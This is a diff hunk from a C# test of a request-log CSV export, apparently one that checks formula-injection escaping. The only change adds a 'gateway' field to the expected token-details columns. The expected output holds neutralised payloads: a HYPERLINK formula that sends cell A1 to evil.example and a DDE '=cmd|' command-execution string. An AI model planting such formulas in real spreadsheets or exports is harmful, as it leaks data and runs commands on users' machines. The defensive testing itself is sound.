@@ -58,7 +58,7 @@ public sealed class RequestLogExportInjectionTests(InjectionDataFactory data) : 
         var ids = data.Requests.Select(r => r.Id).ToArray();
         var userId = data.Formulaic.Id;
         const string Tail = ",,,,,US,198.51.100.9,";
-        const string TokenDetails = ",,,,False,"; // cached input, cache writes, reasoning: none; not estimated; no key
+        const string TokenDetails = ",,,,False,,gateway"; // cached input, cache writes, reasoning: none; not estimated; no key; tracked by us
         raw.Should().Be(
             string.Join(',', RequestLogDto.Columns) + "\r\n" +
             $"{ids[0]},2026-03-01T00:00:00.000Z,/v1/chat/completions,POST,200,-1.5,,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"{Tail}{userId},\"'=cmd|' /C notepad'!A1\",,{TokenDetails}\r\n" +
